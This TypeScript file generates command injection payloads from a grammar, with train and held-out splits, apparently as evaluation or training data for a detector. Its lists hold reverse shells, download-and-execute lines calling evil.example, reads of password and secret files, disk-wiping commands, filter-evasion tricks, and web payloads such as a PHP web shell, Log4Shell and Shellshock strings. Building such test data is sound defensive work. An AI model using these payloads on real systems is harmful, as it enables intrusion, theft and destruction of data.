/**
 * OS command injection payloads from a grammar written for Helios: an optional value the
 * application expected, a separator or substitution (; | || & && newline, $(), backticks), a
 * command for Unix or Windows, and optional evasions ($IFS, quotes inside words, globbing, brace
 * expansion). Held-out branches are separators, commands and evasions kept for evaluation.
 */
import type { Branches, Chooser } from "./grammar";

const VALUES = [
  "",
  "",
  "127.0.0.1",
  "8.8.8.8",
  "localhost",
  "file.txt",
  "1",
  "test",
  "abc",
  "'",
  '"',
  "x.jpg",
  "google.com",
  "a",
];
const SEPARATORS: Branches<string> = {
  train: [";", "; ", "|", " | ", "||", "&", "&&", " && ", "\n", "%0a", "%3b", "%7c", "\r\n", "%26%26", ";;"],
  held: ["%0d%0a", "\n\n", "%0A", "&;"],
};
const UNIX_COMMANDS: Branches<string> = {
  train: [
    "cat /etc/passwd",
    "id",
    "whoami",
    "uname -a",
    "ls -la",
    "ls",
    "ping -c 3 127.0.0.1",
    "sleep 5",
    "cat /etc/shadow",
    "nc -e /bin/sh 10.0.0.1 4444",
    "wget http://evil.example/sh -O /tmp/sh",
    "curl http://evil.example/x.sh | sh",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "rm -rf /",
    "echo vulnerable",
    "/bin/sh",
    "/usr/bin/id",
    "ifconfig",
    "netstat -an",
    "ps aux",
    "env",
    "cat /proc/self/environ",
    "python -c 'import os;os.system(\"id\")'",
    "perl -e 'print 1'",
    "nslookup evil.example",
    "chmod 777 /tmp/x",
    "head /etc/passwd",
    "tail -n 5 /var/log/auth.log",
    "find / -perm -4000",
    "sh -c id",
    "busybox nc 10.0.0.1 1234 -e sh",
    "cat$IFS/etc/passwd",
    "echo $(whoami)",
    "sleep 10",
    "ping -n 5 127.0.0.1",
    "telnet 10.0.0.1 23",
    "touch /tmp/pwned",
    "kill -9 1",
    "crontab -l",
  ],
  held: [
    "php -r 'system(\"id\");'",
    "awk 'BEGIN{system(\"id\")}'",
    "dig evil.example",
    "xterm -display 10.0.0.1:1",
    "getent passwd",
    "base64 /etc/passwd",
  ],
};
const WINDOWS_COMMANDS: Branches<string> = {
  train: [
    "dir",
    "dir c:\\",
    "type c:\\windows\\win.ini",
    "net user",
    "whoami",
    "ipconfig /all",
    "systeminfo",
    "tasklist",
    "cmd /c whoami",
    "powershell -enc SQBFAFgA",
    "powershell -c \"iex(new-object net.webclient).downloadstring('http://evil.example/a')\"",
    "net localgroup administrators",
    "ping -n 3 127.0.0.1",
    "timeout /t 5",
    "certutil -urlcache -f http://evil.example/a.exe a.exe",
    "type %SYSTEMROOT%\\win.ini",
    "echo %USERNAME%",
    "del /f /q c:\\*.*",
    "copy con x.bat",
    "dir+c:\\",
  ],
  held: [
    "wmic process list",
    "reg query HKLM\\SAM",
    "bitsadmin /transfer x http://evil.example/a.exe c:\\a.exe",
    "nltest /dclist:",
  ],
};

function command(c: Chooser): string {
  return c.chance(0.7) ? c.branch(UNIX_COMMANDS) : c.branch(WINDOWS_COMMANDS);
}

/** Hides a Unix command's words from naive filters. */
const EVASIONS: Branches<(cmd: string) => string> = {
  train: [
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal shell text ${IFS}
    (cmd) => cmd.replaceAll(" ", "${IFS}"),
    (cmd) => cmd.replaceAll(" ", "$IFS$9"),
    (cmd) => cmd.replace(/^(\w)(\w+)/, "$1'$2'").replace(/^(\w)'(\w)/, "$1'$2"),
    (cmd) => cmd.replace(/^(\w)(\w)/, "$1\\$2"),
    (cmd) => cmd.replace(/^(\w)(\w)/, '$1""$2'),
    (cmd) => `{${cmd.split(" ").join(",")}}`,
    (cmd) => cmd.replace("/etc/passwd", "/e??/p?ss??").replace("/bin/", "/???/"),
    (cmd) => cmd.replaceAll(" ", "%20"),
    (cmd) => cmd.replaceAll(" ", "+"),
  ],
  held: [
    (cmd) => cmd.replaceAll(" ", "<"),
    (cmd) => cmd.replaceAll(" ", "\t"),
    (cmd) => cmd.replace(/^(\w+)/, "$1$@"),
  ],
};

/** The families of the grammar. */
const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
  separated: (c) => {
    const tail = c.chance(0.3) ? c.branch(SEPARATORS) : c.pick(["", "", "#", " #", "&", ";", "|", "'", '"']);
    return `${c.pick(VALUES)}${c.branch(SEPARATORS)}${command(c)}${tail}`;
  },
  substitution: (c) =>
    c.pick([
      `${c.pick(VALUES)}$(${command(c)})`,
      `${c.pick(VALUES)}\`${command(c)}\``,
      `$(${command(c)})`,
      `\`${command(c)}\``,
      `${c.pick(VALUES)};echo $(${command(c)})`,
      `"; $(${command(c)}) #`,
      `${c.pick(VALUES)}|\`${command(c)}\``,
    ]),
  evasion: (c) => `${c.pick(VALUES)}${c.branch(SEPARATORS)}${c.branch(EVASIONS)(c.branch(UNIX_COMMANDS))}`,
  bareCommand: (c) => {
    // A lone word like "id" or "dir" is a normal form value; a bare command needs a path or option.
    let cmd = command(c);
    while (!/[/\\\-|>$]/.test(cmd)) cmd = command(c);
    return c.chance(0.5) ? cmd : `${cmd}${c.pick([";", "|", "&", " #", "%00"])}`;
  },
  ssiAndCode: (c) =>
    c.pick([
      `<!--#exec cmd="${c.branch(UNIX_COMMANDS)}"-->`,
      `<?php system('${c.branch(UNIX_COMMANDS)}'); ?>`,
      `<?php echo shell_exec($_GET['cmd']); ?>`,
      `'; system('${c.branch(UNIX_COMMANDS)}'); //`,
      `{{config.__class__.__init__.__globals__['os'].popen('${c.branch(UNIX_COMMANDS)}').read()}}`,
      `__import__('os').system('${c.branch(UNIX_COMMANDS)}')`,
      `\${jndi:ldap://evil.example/${c.pick(["a", "x", "exploit"])}}`,
      `() { :; }; ${c.branch(UNIX_COMMANDS)}`,
      `require('child_process').exec('${c.branch(UNIX_COMMANDS)}')`,
      `Runtime.getRuntime().exec("${c.branch(UNIX_COMMANDS)}")`,
    ]),
};

/** The command injection families, by name. */
export const CMDI_FAMILIES = Object.keys(FAMILIES);

/** One command injection payload of the given family. */
export function cmdiPayload(c: Chooser, family: string): string {
  return FAMILIES[family]!(c);
}
